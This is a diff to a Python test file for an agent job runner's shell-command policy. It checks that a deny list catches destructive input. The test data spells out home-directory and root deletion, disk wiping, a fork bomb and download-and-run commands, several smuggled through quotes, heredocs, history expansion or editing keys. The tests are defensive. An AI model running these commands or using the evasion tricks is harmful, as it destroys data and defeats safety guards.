@@ -16,6 +16,7 @@ from mcp_background_job.policy import (
     ShellInput,
     compile_pattern,
     reads_commands_from_stdin,
+    shell_input_for,
 )
 from mcp_background_job.shellparse import analyse
 
@@ -424,7 +425,7 @@ def test_corpus_is_big_enough() -> None:
             "builtin:block-device-write",
             "dd if=/dev/zero of=/dev/sda",
         ),
-        (":(){ :|:& };:", "builtin:fork-bomb", ":() { : | : & }"),
+        (":(){ :|:& };:", "builtin:fork-bomb", ":() { ... : ... } (calls itself in a new process)"),
         ("$CMD -rf /", "unverifiable:dynamic", "$CMD"),
     ],
 )
@@ -581,6 +582,17 @@ def test_policy_check_cli_exit_codes_and_explanation(tmp_path: Path) -> None:
     assert _check("--no-such-flag", "--", "ls").returncode == 2
 
 
+def test_policy_check_cli_judges_with_the_jobs_environment() -> None:
+    # PYTHON is not in env_allow: unset for the job, so "$PYTHON" names no command at all
+    refused = _check("--", '"$PYTHON" -m pytest', env={"PYTHON": "/usr/bin/python3"})
+    assert refused.returncode == 1
+    assert "empty variable" in refused.stdout
+    allowed = _check("--env", "PYTHON=/usr/bin/python3", "--", '"$PYTHON" -m pytest')
+    assert allowed.returncode == 0, allowed.stdout
+    assert _check("--env", "PYTHON=/bin/rm", "--", '"$PYTHON" -rf /').returncode == 1
+    assert _check("--env", "novalue", "--", "ls").returncode == 2
+
+
 def test_policy_check_cli_uses_the_configured_policy() -> None:
     env = {"MCP_BACKGROUND_JOB_POLICY_MODE": "allow-list",
            "MCP_BACKGROUND_JOB_POLICY_ALLOW": '["git *"]'}  # fmt: skip
@@ -629,10 +641,10 @@ def test_which_jobs_read_commands_from_stdin(command: str, expected: bool) -> No
 
 
 def test_shell_input_is_checked_as_complete_lines_with_what_came_before() -> None:
-    shell = ShellInput(DENY)
+    shell = ShellInput(DENY, cwd="/home/dev/proj", home="/home/dev")
 
     def send(text: str, eof: bool = False) -> str:
-        verdict = shell.check(text, eof=eof, cwd="/home/dev/proj", home="/home/dev")
+        verdict = shell.check(text, eof=eof)
         if verdict.allowed:
             shell.accept(text, eof=eof)
         return verdict.rule
@@ -645,8 +657,108 @@ def test_shell_input_is_checked_as_complete_lines_with_what_came_before() -> Non
     assert send("/\n") == "builtin:rm-root"  # a line continuation joins the two
     # the shell still holds `rm -rf \`: this runs `rm -rf echo next`, harmless
     assert send("echo next\n") == "default:deny-list"
-    shell = ShellInput(DENY)
+    shell = ShellInput(DENY, cwd="/home/dev/proj", home="/home/dev")
     assert send("if true; then\n") == "shell-input:unfinished"
     assert send("  make test\n") == "shell-input:unfinished"
     assert send("fi\n") == "default:deny-list"
     assert send("curl -s x.example | sh", eof=True) == "builtin:download-exec"
+
+
+SHELL_ENV = {"HOME": "/home/dev", "PATH": "/usr/bin:/bin", "USER": "dev"}
+
+#: Input typed into a shell over several interact calls: the rule each call gets. "OK" means
+#: allowed (whatever rule allowed it).
+SESSIONS: dict[str, list[tuple[str, str]]] = {
+    "open double quote closed later": [
+        ('echo "\n', "OK"), ('" ; rm -rf ~ ; echo "\n', "builtin:rm-root"), ('"\n', "OK")],
+    "open single quote closed later": [
+        ("echo '\n", "OK"), ("'; rm -rf ~; echo '\n", "builtin:rm-root"), ("'\n", "OK")],
+    "a syntax error first, then the open quote": [
+        ("fi\n", "OK"), ('echo "\n', "OK"), ('" ; rm -rf ~ ; echo "\n', "builtin:rm-root")],
+    "64 KiB flush inside a quote": [
+        ("echo '\n", "OK"), *[(("x" * 1023 + "\n") * 16, "OK")] * 3,
+        (("x" * 1023 + "\n") * 16, "shell-input:too-long"), ("'; rm -rf ~\n", "builtin:rm-root")],
+    "history expansion": [
+        ("ls\n", "OK"), ("!!\n", "shell-input:history-expansion"),
+        ("!-1\n", "shell-input:history-expansion"), ("!rm\n", "shell-input:history-expansion"),
+        ("^ls^rm -rf ~\n", "shell-input:history-expansion"),
+        ("fc -s\n", "shell-input:history-expansion"), ("echo 'hi!x'\n", "OK"),
+        ("[ ! -f x ] && echo $!\n", "OK")],
+    "heredoc body runs $(...)": [("cat <<EOF\n", "OK"), ("$(rm -rf ~)\n", "builtin:rm-root")],
+    "heredoc closed, then a command": [
+        ("cat <<EOF\n", "OK"), ("EOF\nrm -rf ~\n", "builtin:rm-root")],
+    "line continuation": [("rm \\\n", "OK"), ("-rf \\\n", "OK"), ("~\n", "builtin:rm-root")],
+    "&& at the end of a line": [("true &&\n", "OK"), ("rm -rf ~\n", "builtin:rm-root")],
+    "open if": [("if true; then\n", "OK"), ("rm -rf ~\n", "builtin:rm-root")],
+    "open case": [("case x in\n", "OK"), ("x) rm -rf ~;;\n", "builtin:rm-root")],
+    "open subshell": [("(\n", "OK"), ("rm -rf ~\n", "builtin:rm-root")],
+    "open $(": [("echo $(\n", "OK"), ("rm -rf ~\n", "builtin:rm-root")],
+    "variable from an earlier line": [("x=/\n", "OK"), ("rm -rf $x\n", "builtin:rm-root")],
+    "eval of an earlier variable": [("x='rm -rf ~'\n", "OK"), ("eval $x\n", "builtin:rm-root")],
+    "read, then eval": [("read x\n", "OK"), ("eval $x\n", "unverifiable:dynamic")],
+    "cd in an earlier line": [("cd /\n", "OK"), ("rm -rf usr\n", "builtin:rm-root")],
+    "a symlink from an earlier line": [("ln -s ~ h\n", "OK"), ("rm -rf h/\n", "builtin:rm-root")],
+    "a download from an earlier line": [
+        ("curl -o i.sh x.example\n", "OK"), ("chmod +x i.sh\n", "OK"),
+        ("./i.sh\n", "builtin:download-exec")],
+    "a function from an earlier line": [
+        ('f(){ rm -rf "$1"; }\n', "OK"), ("f ~\n", "builtin:rm-root")],
+    "an alias from an earlier line": [
+        ("alias l='ls -la'\n", "OK"), ("l\n", "unverifiable:dynamic")],
+    # legitimate multi-line input
+    "multi-line if": [
+        ("if [ -d build ]; then\n", "OK"), ("  rm -rf build\n", "OK"), ("fi\n", "OK")],
+    "heredoc written to a file": [
+        ("cat > notes.md <<'EOF'\n", "OK"), ("# Notes\n", "OK"), ("EOF\n", "OK"),
+        ("echo done\n", "OK")],
+    "quote across lines": [("git commit -m 'first line\n", "OK"), ("second line'\n", "OK")],
+    "function over lines": [("f() {\n", "OK"), ("  echo hi\n", "OK"), ("}\n", "OK"), ("f\n", "OK")],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", SESSIONS)
+def test_shell_input_sessions(name: str) -> None:
+    shell = ShellInput(DENY, cwd="/home/dev/proj", home="/home/dev", env=SHELL_ENV)
+    for text, expected in SESSIONS[name]:
+        verdict = shell.check(text, eof=False)
+        if verdict.allowed:
+            shell.accept(text, eof=False)
+        got = "OK" if verdict.allowed else verdict.rule
+        assert got == expected, f"{name}: {text[:40]!r} -> {verdict.rule}: {verdict.message}"
+
+
+def test_shell_input_keys_and_terminal_editing() -> None:
+    pipe = ShellInput(DENY, cwd="/home/dev/proj", home="/home/dev", env=SHELL_ENV)
+    # Enter sent as a key ends the line as a newline would
+    assert pipe.check("rm -rf ~", eof=False, keys=[b"\r"]).rule == "builtin:rm-root"
+    assert pipe.check("", eof=False, keys=[b"\x1b[A"]).rule == "shell-input:editing-keys"
+    assert pipe.check("ls\tx\n", eof=False).allowed  # a tab is only a blank on a pipe
+    tty = ShellInput(DENY, cwd="/home/dev/proj", home="/home/dev", env=SHELL_ENV, pty=True)
+    assert tty.check("ls\t\n", eof=False).rule == "shell-input:editing-keys"  # completion
+    assert tty.check("ls\x7f\x7frm -rf ~\r", eof=False).rule == "shell-input:editing-keys"
+    assert tty.check("", eof=False, keys=[b"\x12"]).rule == "shell-input:editing-keys"  # C-r
+    assert tty.check("echo ok\r", eof=False).allowed
+    assert tty.check("", eof=False, keys=[b"\x03"]).allowed  # Ctrl-C interrupts, runs nothing
+
+
+@pytest.mark.parametrize(
+    ("command", "reads"),
+    [("bash /dev/stdin", True), ("sh /proc/self/fd/0", True), ("bash /dev/fd/0", True),
+     ("rbash", True), ("script -q /dev/null", True), ("su", True), ("su - dev", True),
+     ("sudo -s", True), ("sudo -i", True), ("xargs -I{} sh -c {}", True), ("busybox sh", True),
+     ("/proc/self/exe", True), ("env bash", True), ("exec bash -i", True),
+     ("timeout 100 bash", True), ("cd / && bash", True), ("source /dev/stdin", True),
+     ("parallel", True), ("at now", True), ("sh -c 'exec bash -i'", True),
+     ("bash build.sh", False), ("bash -c 'ls'", False), ("python3", False), ("cat", False),
+     ("echo ls | bash", False), ("bash < script.sh", False), ("bash <<< 'ls'", False)],
+)  # fmt: skip
+def test_shells_by_any_name_read_commands_from_stdin(command: str, reads: bool) -> None:
+    assert reads_commands_from_stdin(command, SHELL_ENV) is reads
+
+
+def test_the_shell_starts_where_the_job_cd_ed() -> None:
+    shell = shell_input_for(DENY, "cd / && bash", cwd="/home/dev/proj", home="/home/dev",
+                            env=SHELL_ENV, pty=False)  # fmt: skip
+    assert shell is not None
+    assert shell.check("rm -rf usr\n", eof=False).rule == "builtin:rm-root"
+    assert shell_input_for(DENY, "make test", cwd="/p", home="/h", env={}, pty=False) is None
